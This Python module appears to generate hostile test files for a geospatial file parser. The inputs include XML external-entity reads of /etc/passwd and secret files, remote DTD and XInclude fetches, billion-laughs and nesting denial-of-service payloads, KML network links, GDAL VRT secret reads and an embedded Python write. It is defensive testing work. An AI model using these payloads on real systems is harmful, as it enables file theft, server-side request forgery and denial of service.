"""XML that fetches, includes or multiplies, in every language that is written in it."""

from __future__ import annotations

import io
import zipfile

from hostile.cases import Case, Place, texts

_RING = "-92.33,38.95 -92.329,38.95 -92.329,38.951 -92.33,38.95"
_KML_SHAPE = (
    "<Polygon><outerBoundaryIs><LinearRing><coordinates>" + _RING + "</coordinates></LinearRing>"
    "</outerBoundaryIs></Polygon>"
)
_KML = (
    '<kml xmlns="http://www.opengis.net/kml/2.2" xmlns:xlink="http://www.w3.org/1999/xlink">'
    "<Document><name>a</name>{0}<Placemark><name>{1}</name>" + _KML_SHAPE + "</Placemark>"
    "</Document></kml>"
)
_GML = (
    '<ogr:FeatureCollection xmlns:ogr="http://ogr.maptools.org/" '
    'xmlns:gml="http://www.opengis.net/gml" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {0}>'
    '<gml:featureMember><ogr:a fid="a.0"><ogr:name>{1}</ogr:name><ogr:geometryProperty>'
    '<gml:Polygon srsName="{2}"><gml:outerBoundaryIs><gml:LinearRing><gml:coordinates>'
    + _RING
    + "</gml:coordinates></gml:LinearRing></gml:outerBoundaryIs></gml:Polygon>"
    "</ogr:geometryProperty></ogr:a></gml:featureMember>{3}</ogr:FeatureCollection>"
)
_GPX = (
    '<gpx version="1.1" creator="a" xmlns="http://www.topografix.com/GPX/1/1" '
    'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" {0}><trk><name>{1}</name><trkseg>'
    '<trkpt lat="38.95" lon="-92.33"><time>2026-04-14T12:00:00Z</time></trkpt>'
    '<trkpt lat="38.9501" lon="-92.33"><time>2026-04-14T12:00:05Z</time></trkpt>'
    "</trkseg></trk></gpx>"
)
_TASKDATA = (
    '<ISO11783_TaskData VersionMajor="4" VersionMinor="2" DataTransferOrigin="1" '
    'ManagementSoftwareManufacturer="a" ManagementSoftwareVersion="1" {0}>'
    '<PFD A="PFD1" C="{1}" D="10000"/>{2}</ISO11783_TaskData>'
)
_HEAD = '<?xml version="1.0" encoding="UTF-8"?>'


def _laughs(root: str) -> str:
    lines = ["<!ENTITY l0 'ha'>"]
    lines += [f"<!ENTITY l{i} '{f'&l{i - 1};' * 10}'>" for i in range(1, 11)]
    return f"<!DOCTYPE {root} [{''.join(lines)}]>"


def _quadratic(root: str) -> str:
    return f"<!DOCTYPE {root} [<!ENTITY l10 '{'a' * 50_000}'>]>"


_TRICKS = {
    "file entity": ('<!DOCTYPE {r} [<!ENTITY e SYSTEM "@SECRET@">]>', "&e;"),
    "url entity": ('<!DOCTYPE {r} [<!ENTITY e SYSTEM "@URL@/e">]>', "&e;"),
    "password entity": ('<!DOCTYPE {r} [<!ENTITY e SYSTEM "file:///etc/passwd">]>', "&e;"),
    "parameter entity": ('<!DOCTYPE {r} [<!ENTITY % p SYSTEM "@URL@/p.dtd"> %p;]>', "a"),
    "outside dtd": ('<!DOCTYPE {r} SYSTEM "@URL@/a.dtd">', "a"),
    "file dtd": ('<!DOCTYPE {r} SYSTEM "@SECRET@">', "a"),
    "stylesheet": ('<?xml-stylesheet type="text/xsl" href="@URL@/a.xsl"?>', "a"),
    "include": ("", '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="@SECRET@"/>'),
}
_LANGUAGES = {
    "kml": ("kml", "map", "a.kml", lambda inner: _KML.format("", inner)),
    "gml": ("ogr:FeatureCollection", "map", "a.gml", lambda x: _GML.format("", x, "EPSG:4326", "")),
    "gpx map": ("gpx", "map", "a.gpx", lambda inner: _GPX.format("", inner)),
    "gpx log": ("gpx", "log", "a.gpx", lambda inner: _GPX.format("", inner)),
    "task data": (
        "ISO11783_TaskData",
        "task data",
        "TASKDATA.XML",
        lambda inner: _TASKDATA.format("", "a", inner),
    ),
}


def _tricks() -> list[Case]:
    found = []
    for language, (root, role, name, body) in _LANGUAGES.items():
        for trick, (head, inner) in _TRICKS.items():
            text = _HEAD + head.replace("{r}", root) + body(inner)
            found += texts(role, [(name, text)], f"{language} {trick}: ")
        laughs = _HEAD + _laughs(root) + body("&l10;")
        repeated = _HEAD + _quadratic(root) + body("&l10;" * 20_000)
        deep = _HEAD + body("<a>" * 100_000 + "</a>" * 100_000)
        attributes = _HEAD + body("<a " + " ".join(f'a{i}="1"' for i in range(100_000)) + "/>")
        name_long = _HEAD + body(f"<{'a' * 5_000_000}/>")
        utf16 = (_laughs(root) + body("&l10;")).encode("utf-16")
        utf7 = b'<?xml version="1.0" encoding="UTF-7"?>' + body("+ADw-").encode()
        for trick, content in (
            ("laughs", laughs),
            ("repeated entity", repeated),
            ("deep", deep),
            ("attributes", attributes),
            ("long name", name_long),
            ("laughs in utf-16", utf16),
            ("utf-7", utf7),
            ("cut off", (_HEAD + body("a"))[:-200]),
        ):
            found += texts(role, [(name, content)], f"{language} {trick}: ")
    return found


_LINK = "<NetworkLink><name>l</name><Link><href>{0}</href></Link></NetworkLink>"
_OVERLAY = "<GroundOverlay><Icon><href>@URL@/a.png</href></Icon></GroundOverlay>"
_LINKS = {
    "network link": _LINK.format("@URL@/more.kml"),
    "network link to a file": _LINK.format("@SECRET@"),
    "network link to itself": _LINK.format("a.kml"),
    "overlay": _OVERLAY,
    "remote style": "<styleUrl>@URL@/s.kml#s</styleUrl>",
    "update": (
        "<NetworkLinkControl><Update><targetHref>@URL@/a.kml</targetHref></Update>"
        "</NetworkLinkControl>"
    ),
    "model": "<Placemark><Model><Link><href>@URL@/a.dae</href></Link></Model></Placemark>",
    "schema": '<Schema name="s" id="s"><SimpleField type="@URL@" name="../../x"/></Schema>',
    "folders": "<Folder>" * 5000 + "</Folder>" * 5000,
}


def _packed(text: str, more: dict[str, str] | None = None) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("doc.kml", text)
        for name, content in (more or {}).items():
            archive.writestr(name, content)
    return file.getvalue()


def _kmz(name: str, text: str, more: dict[str, str] | None = None) -> Case:
    def make(at: Place) -> str:
        return at.write("a.kmz", _packed(at.filled(text), more))

    return Case(name, "map", make)


def _gml_beside(name: str, beside: dict[str, str]) -> Case:
    """A GML file with files of its own name beside it that say how to read it."""

    def make(at: Place) -> str:
        for file, content in beside.items():
            at.write(file, content)
        return at.write("a.gml", _GML.format("", "a", "EPSG:4326", ""))

    return Case(name, "map", make)


_XLINK = (
    '<gml:featureMember><ogr:a fid="a.1"><ogr:geometryProperty xlink:href="{0}"/></ogr:a>'
    "</gml:featureMember>"
)
_WFS = "<OGRWFSDataSource><URL>@URL@/wfs?SERVICE=WFS</URL></OGRWFSDataSource>"
_CAPABILITIES = (
    '<wfs:WFS_Capabilities version="2.0.0" xmlns:wfs="http://www.opengis.net/wfs/2.0" '
    'xmlns:ows="http://www.opengis.net/ows/1.1" xmlns:xlink="http://www.w3.org/1999/xlink">'
    '<ows:OperationsMetadata><ows:Operation name="GetFeature"><ows:DCP><ows:HTTP>'
    '<ows:Get xlink:href="@URL@/wfs"/></ows:HTTP></ows:DCP></ows:Operation>'
    "</ows:OperationsMetadata><FeatureTypeList><FeatureType><Name>a</Name></FeatureType>"
    "</FeatureTypeList></wfs:WFS_Capabilities>"
)
_WMS = (
    '<GDAL_WMS><Service name="WMS"><ServerUrl>@URL@/wms?</ServerUrl><Layers>a</Layers></Service>'
    "<DataWindow><SizeX>10</SizeX><SizeY>10</SizeY></DataWindow></GDAL_WMS>"
)
_VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="secret-neighbour"><SrcDataSource relativeToVRT="1">'
    "{0}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>"
)
_RASTER_VRT = (
    '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1" '
    'subClass="VRTDerivedRasterBand"><PixelFunctionLanguage>Python</PixelFunctionLanguage>'
    "<PixelFunctionType>f</PixelFunctionType><PixelFunctionCode><![CDATA[\nimport os\n"
    "open('@OUTSIDE@', 'w')\n]]></PixelFunctionCode><SimpleSource><SourceFilename>@URL@/a.tif"
    "</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
)


def cases() -> list[Case]:
    """Links, services, recipes and tricks of the language itself."""
    kml = [(f"{name}.kml", _HEAD + _KML.format(inner, "a")) for name, inner in _LINKS.items()]
    schema = 'xsi:schemaLocation="http://ogr.maptools.org/ {0}"'
    gml = [
        ("schema url.gml", _GML.format(schema.format("@URL@/a.xsd"), "a", "EPSG:4326", "")),
        ("schema file.gml", _GML.format(schema.format("@SECRET@"), "a", "EPSG:4326", "")),
        (
            "schema service.gml",
            _GML.format(
                schema.format("@URL@/wfs?SERVICE=WFS&amp;REQUEST=DescribeFeatureType"),
                *("a", "EPSG:4326", ""),
            ),
        ),
        ("link url.gml", _GML.format("", "a", "EPSG:4326", _XLINK.format("@URL@/a.gml#g"))),
        ("link file.gml", _GML.format("", "a", "EPSG:4326", _XLINK.format("@SECRET@#g"))),
        ("link itself.gml", _GML.format("", "a", "EPSG:4326", _XLINK.format("#g"))),
        ("system url.gml", _GML.format("", "a", "@URL@/crs", "")),
        ("system file.gml", _GML.format("", "a", "@SECRET@", "")),
        ("plain.gml", _GML.format("", "a", "EPSG:4326", "")),
        ("plain.xml", _GML.format("", "a", "EPSG:4326", "")),
        ("plain", _GML.format("", "a", "EPSG:4326", "")),
    ]
    services = [
        (f"{what}{suffix}", text)
        for what, text in {
            "wfs": _WFS,
            "capabilities": _CAPABILITIES,
            "wms": _WMS,
            "csw": "<OGRCSWDataSource><URL>@URL@/csw</URL></OGRCSWDataSource>",
            "oapif": "<OGROAPIFDataSource><URL>@URL@</URL></OGROAPIFDataSource>",
            "wmts": "<GDAL_WMTS><GetCapabilitiesUrl>@URL@</GetCapabilitiesUrl></GDAL_WMTS>",
            "wcs": "<WCS_GDAL><ServiceURL>@URL@</ServiceURL></WCS_GDAL>",
            "ogcapi": "<OGCAPI><URL>@URL@</URL></OGCAPI>",
            "georss": '<rss version="2.0"><channel><link>@URL@</link></channel></rss>',
            "mapml": '<mapml- xmlns="http://www.w3.org/1999/xhtml" href="@URL@"/>',
            "osm": '<osm version="0.6"><node id="1" lat="38" lon="-92"/></osm>',
        }.items()
        for suffix in (".gml", ".xml", ".kml", ".geojson")
    ]
    recipes = [
        (f"vrt{suffix}", _VRT.format("@SECRET@"))
        for suffix in (".vrt", ".kml", ".gml", ".geojson", ".gpkg", ".shp", "")
    ]
    recipes += [
        ("bom.vrt", "\ufeff" + _VRT.format("@SECRET@")),
        ("blank.kml", "\n" * 6000 + _VRT.format("@SECRET@")),
        ("comment.gml", f"<!-- {'x' * 10_000} -->" + _VRT.format("@SECRET@")),
        ("declared.gml", _HEAD + f"<!-- {'x' * 900} -->" + _VRT.format("@SECRET@")),
        ("utf16.vrt", _VRT.format("secret-neighbour.geojson").encode("utf-16")),
        ("spaced.vrt", _VRT.format("@SECRET@").replace("<OGRVRT", "< OGRVRT")),
        ("fetches.vrt", _VRT.format("/vsicurl/@URL@/a.geojson")),
        ("itself.vrt", _VRT.format("itself.vrt")),
        ("quoted.geojson", '"' + _VRT.format("@SECRET@") + '"'),
        (
            "sql.vrt",
            _VRT.format("@SECRET@").replace("</SrcD", "</SrcD") + "<SrcSQL>select 1</SrcSQL>",
        ),
        ("raster.vrt", _RASTER_VRT),
        ("raster.tif", _RASTER_VRT),
        ("raster.gpkg", _RASTER_VRT),
    ]
    known = (
        "<GMLFeatureClassList><GMLFeatureClass><Name>a</Name><ElementPath>{0}</ElementPath>"
        "</GMLFeatureClass></GMLFeatureClassList>"
    )
    return [
        *_tricks(),
        *texts("map", kml, "kml "),
        *(_kmz(f"kmz {name}", _KML.format(inner, "a")) for name, inner in _LINKS.items()),
        _kmz("kmz with a recipe", _KML.format("", "a"), {"other.kml": _VRT}),
        _kmz("kmz out of itself", _KML.format(_LINK.format("../a.kml"), "a"), {"../x.kml": "a"}),
        *texts("map", gml, "gml "),
        _gml_beside("gml beside gfs", {"a.gfs": known.format("a" * 100_000)}),
        _gml_beside("gml beside broken gfs", {"a.gfs": "<" * 1000}),
        _gml_beside(
            "gml beside xsd",
            {
                "a.xsd": '<xs:schema xmlns:xs="http://www.w3.org/2001/XMLSchema">'
                '<xs:include schemaLocation="@URL@/b.xsd"/>'
                '<xs:import schemaLocation="@SECRET@"/></xs:schema>'
            },
        ),
        _gml_beside("gml beside resolved", {"a.resolved.gml": "<a/>"}),
        *texts("map", services, "service "),
        *texts("map", recipes, "recipe "),
    ]
